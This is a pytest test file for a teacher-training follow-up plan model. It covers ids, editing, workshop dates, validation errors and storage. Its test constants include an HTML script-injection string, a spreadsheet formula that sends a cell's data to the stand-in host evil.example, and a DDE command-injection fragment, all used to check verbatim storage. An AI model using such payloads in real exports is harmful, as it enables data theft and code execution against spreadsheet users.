"""The follow-up plan's models: shape, ids, editing, the TOT's days, and refused input."""

from __future__ import annotations

from datetime import date, datetime, timezone
from types import SimpleNamespace

import pytest

from totkit.errors import InputError
from totkit.model import Plan, Workbook, parse, parse_section, progress
from totkit.plan import (
    LISTS,
    MAX_ENTRIES,
    MAX_TEXT,
    Action,
    CascadeSession,
    Commitment,
    Indicator,
    Mentoring,
    PlanHeader,
    day_number,
    new_id,
    tot_days,
)

HTML = '<script>alert("x")</script><b onmouseover="steal()">bold</b> &amp; <!-- c -->'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik") +SUM(1,2) -2+3 @cmd|\'/c calc\'!A0'
TRICKY = (HTML, FORMULA, "{name} {0} %s ✓ «ünïcode» \t tab", "line one\nline two\r\n")


def full_plan_data() -> dict:
    return {
        "header": {
            "name": "Sri Wahyuni, S.Pd.",
            "nip": "19800101 200501 2 001",
            "position": "Guru kelas IV",
            "work_unit": "SDN 1 Sukamaju",
            "superior_name": "Drs. Bambang",
            "superior_position": "Kepala Sekolah",
            "superior_nip": "196501011990031001",
            "tot_start": "2026-08-03",
            "tot_end": "2026-08-07",
            "timezone": "WITA",
        },
        "sessions": [
            {
                "id": "s1",
                "title": "Pembelajaran aktif di KKG",
                "objective": "Guru mencoba diskusi kelompok",
                "audience": "Guru kelas IV-VI",
                "participants": 12,
                "date": "2026-08-21",
                "hours": 2.5,
                "venue": "Ruang guru",
                "resources": "Modul, LCD",
                "indicators": ["i1"],
                "notes": "Setelah jam pelajaran",
                "owner": "Sri",
            }
        ],
        "commitments": [
            {
                "id": "c1",
                "kind": "protected_time",
                "from_whom": "Kepala sekolah",
                "status": "agreed",
                "hours_per_month": 4,
                "months": ["2026-09", "2026-08"],
                "notes": "Jumat siang",
            }
        ],
        "mentoring": [
            {"id": "m1", "date": "2026-08-28", "mentor": "Pengawas", "mode": "online",
             "focus": "Kendala sesi pertama"}
        ],
        "indicators": [
            {
                "id": "i1",
                "statement": "Guru yang menerapkan diskusi kelompok",
                "level": "application",
                "baseline": "2 dari 12",
                "target": "8 dari 12",
                "source": "Observasi kelas",
                "measurement_dates": ["2026-12-01", "2026-09-01"],
                "owner": "Sri",
            }
        ],
        "actions": [
            {"id": "a1", "what": "Ajukan surat tugas", "owner": "Sri", "due": "2026-08-14",
             "gaps": ["time", "own_1"], "dimensions": ["mandate"]}
        ],
    }


def test_a_full_plan_round_trips_through_json():
    plan = parse(Plan, full_plan_data())
    assert parse(Plan, plan.model_dump_json()) == plan
    assert plan.commitments[0].months == ["2026-08", "2026-09"]  # sorted
    assert plan.indicators[0].measurement_dates == [date(2026, 9, 1), date(2026, 12, 1)]
    assert plan.header.timezone == "WITA"


def test_workbook_keeps_the_plan_and_progress_counts_it():
    workbook = Workbook(
        id="w", workshop="TOT", created_at=datetime(2026, 8, 1, tzinfo=timezone.utc),
        profile={"name": "Sri"}, plan=full_plan_data(),
    )
    assert Workbook.from_json(workbook.to_json()) == workbook
    assert progress(workbook)["plan"] == 1.0
    assert parse_section("plan", full_plan_data()) == workbook.plan


def test_an_empty_plan_is_valid():
    assert Plan() == parse(Plan, {})
    assert Plan().header.tot_end is None


# -- ids and editing ---------------------------------------------------------------------------


def test_new_id_follows_the_highest():
    assert new_id("s", []) == "s1"
    assert new_id("s", ["s1", "s2", "x9"]) == "s3"
    assert new_id("s", ["s7", "s2"]) == "s8"
    assert new_id("i", ["i1", "ix", "s4"]) == "i2"


def test_entries_without_an_id_get_one():
    plan = Plan(sessions=[{"title": "A"}, {"id": "s5", "title": "B"}, {"title": "C"}])
    assert [s.id for s in plan.sessions] == ["s6", "s5", "s7"]  # after the highest given
    assert {name: prefix for name, (_, prefix) in LISTS.items()} == {
        "sessions": "s", "commitments": "c", "mentoring": "m", "indicators": "i", "actions": "a",
    }


def test_ids_are_unique_within_a_list():
    with pytest.raises(InputError) as caught:
        parse(Plan, {"actions": [{"id": "a1", "what": "x"}, {"id": "a1", "what": "y"}]})
    assert caught.value.key == "error.plan_duplicate_id"
    assert caught.value.field == "plan_actions"
    assert "a1" in caught.value.message("en") and "a1" in caught.value.message("id")
    # the same id in two lists is fine
    parse(Plan, {"sessions": [{"id": "x", "title": "a"}], "actions": [{"id": "x", "what": "b"}]})


def test_add_replace_and_remove():
    plan = Plan()
    plan = plan.add("indicators", {"statement": "Guru menerapkan", "level": "application"})
    plan = plan.add("sessions", CascadeSession(title="KKG", indicators=["i1"]))
    plan = plan.add("sessions", {"title": "MGMP"})
    assert [s.id for s in plan.sessions] == ["s1", "s2"]
    plan = plan.replace("sessions", "s2", {"title": "MGMP IPA", "participants": 20})
    assert plan.entry("sessions", "s2").title == "MGMP IPA"
    assert plan.entry("sessions", "s2").participants == 20
    plan = plan.remove("sessions", "s1")
    assert [s.id for s in plan.sessions] == ["s2"]
    assert plan.add("sessions", {"title": "Lagi"}).sessions[-1].id == "s3"


def test_removing_an_indicator_unlinks_it_from_sessions():
    plan = parse(Plan, full_plan_data())
    assert plan.sessions[0].indicators == ["i1"]
    plan = plan.remove("indicators", "i1")
    assert plan.indicators == [] and plan.sessions[0].indicators == []


def test_a_session_cannot_link_an_indicator_that_is_not_in_the_plan():
    with pytest.raises(InputError) as caught:
        parse(Plan, {"sessions": [{"title": "KKG", "indicators": ["i9"]}]})
    assert caught.value.key == "error.plan_unknown_indicator"
    assert "i9" in caught.value.message("en")


def test_editing_an_entry_that_is_gone_says_so():
    with pytest.raises(InputError) as caught:
        Plan().replace("sessions", "s4", {"title": "x"})
    assert caught.value.key == "error.plan_no_entry"
    assert "s4" in caught.value.message("id")
    with pytest.raises(InputError):
        Plan().remove("actions", "a1")


def test_with_header_sets_the_header():
    plan = Plan().with_header({"name": "Ani", "tot_end": "2026-08-07"})
    assert plan.header.tot_end == date(2026, 8, 7)
    assert plan.with_header(PlanHeader(name="Budi")).header.name == "Budi"


# -- the TOT's days ----------------------------------------------------------------------------

WORKSHOP = SimpleNamespace(start_date=date(2026, 8, 3), end_date=date(2026, 8, 7), timezone="WIT")


def test_the_workshop_gives_the_dates_unless_the_header_overrides_them():
    assert tot_days(PlanHeader(), WORKSHOP) == (date(2026, 8, 3), date(2026, 8, 7), "WIT")
    header = PlanHeader(tot_start="2026-08-10", tot_end="2026-08-12", timezone="WIB")
    assert tot_days(header, WORKSHOP) == (date(2026, 8, 10), date(2026, 8, 12), "WIB")
    assert tot_days(PlanHeader(tot_end="2026-08-08"), WORKSHOP)[1] == date(2026, 8, 8)
    assert tot_days(PlanHeader(), None) == (None, None, None)
    assert tot_days(PlanHeader(tot_end="2026-08-08"), None) == (None, date(2026, 8, 8), None)


def test_a_mixed_override_ending_before_the_start_is_refused():
    with pytest.raises(InputError) as caught:
        tot_days(PlanHeader(tot_end="2026-08-01"), WORKSHOP)
    assert caught.value.key == "error.dates_order"


def test_day_zero_is_the_last_day_of_the_tot():
    end = date(2026, 8, 7)
    assert day_number(end, end) == 0
    assert day_number(date(2026, 8, 8), end) == 1
    assert day_number(date(2026, 8, 6), end) == -1
    assert day_number(date(2026, 10, 6), end) == 60


# -- refused input -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "field", "key"),
    [
        ({"header": {"tot_start": "2026-08-07", "tot_end": "2026-08-06"}}, "plan_tot_end",
         "error.dates_order"),
        ({"sessions": [{"title": "KKG", "participants": -1}]}, "plan_participants",
         "error.plan_whole_number"),
        ({"sessions": [{"title": "KKG", "participants": 2.5}]}, "plan_participants",
         "error.plan_whole_number"),
        ({"sessions": [{"title": "KKG", "participants": "banyak"}]}, "plan_participants",
         "error.plan_whole_number"),
        ({"sessions": [{"title": "KKG", "hours": 0}]}, "plan_hours", "error.plan_hours"),
        ({"sessions": [{"title": "KKG", "hours": 24.5}]}, "plan_hours", "error.plan_hours"),
        ({"sessions": [{"title": "KKG", "hours": "dua"}]}, "plan_hours", "error.plan_hours"),
        ({"sessions": [{"title": "KKG", "date": "17/08/2026"}]}, "plan_date", "error.plan_date"),
        ({"sessions": [{"title": "KKG", "date": "1926-08-17"}]}, "plan_date",
         "error.plan_date_range"),
        ({"sessions": [{"title": "   "}]}, "plan_title", "error.required"),
        ({"sessions": [{}]}, "plan_title", "error.required"),
        ({"sessions": [{"title": "KKG", "room": "A"}]}, "room", "error.unknown_field"),
        ({"indicators": [{"statement": "x", "level": "behaviour"}]}, "plan_level",
         "error.choice"),
        ({"indicators": [{"statement": "x"}]}, "plan_level", "error.required"),
        ({"indicators": [{"statement": "x", "level": "results",
                          "measurement_dates": ["2026-13-01"]}]},
         "plan_measurement_dates", "error.plan_date"),
        ({"commitments": [{"kind": "money"}]}, "plan_kind", "error.choice"),
        ({"commitments": [{"kind": "budget", "status": "promised"}]}, "plan_status",
         "error.choice"),
        ({"commitments": [{"kind": "protected_time", "hours_per_month": -4}]},
         "plan_hours_per_month", "error.plan_hours"),
        ({"commitments": [{"kind": "protected_time", "months": ["2026-9"]}]}, "plan_months",
         "error.plan_month"),
        ({"commitments": [{"kind": "protected_time", "months": ["2026-13"]}]}, "plan_months",
         "error.plan_month"),
        ({"mentoring": [{"mode": "phone"}]}, "plan_mode", "error.choice"),
        ({"header": {"nip": "1980-01-01"}}, "plan_nip", "error.plan_nip"),
        ({"header": {"superior_nip": "1" * 31}}, "plan_superior_nip", "error.plan_nip"),
        ({"header": {"timezone": "WITT"}}, "plan_timezone", "error.choice"),
        ({"header": {"tot_end": "kemarin"}}, "plan_tot_end", "error.plan_date"),
        ({"actions": [{"what": "x", "gaps": ["<b>"]}]}, "plan_gaps", "error.plan_reference"),
        ({"actions": [{"what": "x", "due": "soon"}]}, "plan_due", "error.plan_date"),
        ({"sessions": [{"id": "s 1", "title": "x"}]}, "plan_id", "error.plan_reference"),
        ({"sessions": [{"title": "a\x00b"}]}, "plan_title", "error.plan_control_character"),
        ({"mentoring": [{"focus": "a\x1bb"}]}, "plan_focus", "error.plan_control_character"),
        ({"shopping": []}, "shopping", "error.unknown_field"),
    ],
)
def test_bad_input_is_refused_naming_the_field(data, field, key):
    with pytest.raises(InputError) as caught:
        parse(Plan, data)
    assert (caught.value.field, caught.value.key) == (field, key)
    for lang in ("id", "en"):
        message = caught.value.message(lang)
        assert message and "{" not in message, message


def test_messages_name_the_plan_field_and_its_limits():
    with pytest.raises(InputError) as caught:
        parse(Plan, {"sessions": [{"title": "KKG", "participants": -1}]})
    assert "Expected participants" in caught.value.message("en")
    assert "Jumlah peserta" in caught.value.message("id")
    assert "0" in caught.value.message("en") and "100000" in caught.value.message("en")
    with pytest.raises(InputError) as caught:
        parse(Plan, {"header": {"tot_start": "2026-08-07", "tot_end": "2026-08-06"}})
    assert "TOT last day" in caught.value.message("en")
    assert "Hari terakhir TOT" in caught.value.message("id")


def test_the_error_says_which_entry():
    data = {"sessions": [{"title": "a"}, {"title": "b"}, {"title": "c", "hours": 99}]}
    with pytest.raises(InputError) as caught:
        parse(Plan, data)
    assert caught.value.params["path"] == "sessions.2.hours"
    assert caught.value.params["entry"] == 3


def test_the_plan_check_of_an_entry_on_its_own_names_the_plan_field():
    with pytest.raises(InputError) as caught:
        parse(CascadeSession, {"title": ""})
    assert caught.value.field == "plan_title"
    assert "Kegiatan" in caught.value.message("id")  # not the workshop's title


def minimal(list_name: str) -> dict:
    return {
        "sessions": {"title": "x"},
        "commitments": {"kind": "other"},
        "mentoring": {},
        "indicators": {"statement": "x", "level": "results"},
        "actions": {"what": "x"},
    }[list_name]


@pytest.mark.parametrize("list_name", list(LISTS))
def test_each_list_holds_at_most_200_entries(list_name):
    entries = [minimal(list_name) for _ in range(MAX_ENTRIES)]
    plan = parse(Plan, {list_name: entries})
    assert len(getattr(plan, list_name)) == MAX_ENTRIES
    with pytest.raises(InputError) as caught:
        parse(Plan, {list_name: [*entries, minimal(list_name)]})
    assert caught.value.key == "error.plan_list_full"
    assert caught.value.field == f"plan_{list_name}"
    assert "200" in caught.value.message("en") and "200" in caught.value.message("id")
    assert "full" in caught.value.message("en") and "penuh" in caught.value.message("id")
    with pytest.raises(InputError) as caught:
        plan.add(list_name, minimal(list_name))
    assert caught.value.key == "error.plan_list_full"


def test_a_huge_list_is_refused_before_its_entries_are_checked():
    with pytest.raises(InputError) as caught:
        parse(Plan, {"sessions": [{"title": ""}] * 10_000})
    assert caught.value.key == "error.plan_list_full"


# Every free-text field: (model, minimal other fields, field).
TEXT_FIELDS = [
    (PlanHeader, {}, name)
    for name in ("name", "position", "work_unit", "superior_name", "superior_position")
] + [
    (CascadeSession, {"title": "x"}, name)
    for name in ("title", "objective", "audience", "venue", "resources", "notes", "owner")
] + [
    (Commitment, {"kind": "other"}, name) for name in ("from_whom", "notes")
] + [
    (Mentoring, {}, name) for name in ("mentor", "focus")
] + [
    (Indicator, {"statement": "x", "level": "results"}, name)
    for name in ("statement", "baseline", "target", "source", "owner")
] + [
    (Action, {"what": "x"}, name) for name in ("what", "owner")
]
SECTION_OF = {
    PlanHeader: "header", CascadeSession: "sessions", Commitment: "commitments",
    Mentoring: "mentoring", Indicator: "indicators", Action: "actions",
}


def in_plan(model, entry: dict) -> dict:
    section = SECTION_OF[model]
    return {section: entry} if section == "header" else {section: [entry]}


@pytest.mark.parametrize(("model", "base", "name"), TEXT_FIELDS,
                         ids=[f"{m.__name__}.{n}" for m, _, n in TEXT_FIELDS])
def test_every_text_holds_2000_characters_and_no_more(model, base, name):
    at_limit = parse(Plan, in_plan(model, {**base, name: "é" * MAX_TEXT}))
    assert at_limit.model_dump(mode="json") == parse(Plan, at_limit.model_dump()).model_dump(
        mode="json"
    )
    with pytest.raises(InputError) as caught:
        parse(Plan, in_plan(model, {**base, name: "é" * (MAX_TEXT + 1)}))
    assert caught.value.key == "error.too_long"
    assert caught.value.field == f"plan_{name}"
    assert "2000" in caught.value.message("en") and "2000" in caught.value.message("id")


# One-line fields drop spaces at either end; paragraphs keep everything as typed.
PARAGRAPHS = {"objective", "resources", "notes", "focus"}


def stored_text(text: str, name: str) -> str:
    return text if name in PARAGRAPHS else text.strip()


def text_of(plan: Plan, model, name: str) -> str:
    section = SECTION_OF[model]
    part = plan.header if section == "header" else getattr(plan, section)[0]
    return getattr(part, name)


@pytest.mark.parametrize(("model", "base", "name"), TEXT_FIELDS,
                         ids=[f"{m.__name__}.{n}" for m, _, n in TEXT_FIELDS])
@pytest.mark.parametrize("text", TRICKY, ids=["html", "formula", "braces", "lines"])
def test_html_and_formulas_are_stored_verbatim(model, base, name, text):
    plan = parse(Plan, in_plan(model, {**base, name: text}))
    assert text_of(plan, model, name) == stored_text(text, name)
    assert parse(Plan, plan.model_dump_json()) == plan


@pytest.mark.parametrize("text", TRICKY, ids=["html", "formula", "braces", "lines"])
def test_every_text_field_round_trips_through_the_store(text, store, joined):
    data: dict = {"header": {}}
    for model, base, name in TEXT_FIELDS:
        section = SECTION_OF[model]
        if section == "header":
            data["header"][name] = text
        else:
            data.setdefault(section, [{**base}])[0][name] = text
    plan = parse(Plan, data)
    store.save_section(joined.workbook_id, "plan", plan, based_on=0)
    loaded = store.load_workbook(joined.workbook_id).plan
    assert loaded == plan
    for model, _, name in TEXT_FIELDS:
        assert text_of(loaded, model, name) == stored_text(text, name)


def test_the_free_text_fields_are_all_covered():
    covered = {(model, name) for model, _, name in TEXT_FIELDS}
    restricted = {"id", "nip", "superior_nip"}  # patterns: refused, not free text
    for model in SECTION_OF:
        for name, info in model.model_fields.items():
            if info.annotation is str and name not in restricted:
                assert (model, name) in covered, f"{model.__name__}.{name} is not tested"


def test_store_keeps_a_plan_saved_as_the_planner_goes(store, joined):
    plan = Plan().add("sessions", {"title": "KKG"})
    version = store.save_section(joined.workbook_id, "plan", plan, based_on=0)
    plan = store.load_workbook(joined.workbook_id).plan.add("mentoring", {"mentor": "Pak Ali"})
    store.save_section(joined.workbook_id, "plan", plan, based_on=version)
    loaded = store.load_workbook(joined.workbook_id).plan
    assert [s.title for s in loaded.sessions] == ["KKG"]
    assert loaded.mentoring[0].mentor == "Pak Ali" and loaded.mentoring[0].id == "m1"


def test_refused_plan_changes_nothing(store, joined, row_counts):
    before = row_counts()
    with pytest.raises(InputError):
        store.save_section(joined.workbook_id, "plan",
                           {"sessions": [{"title": "x", "participants": -3}]}, based_on=0)
    assert row_counts() == before
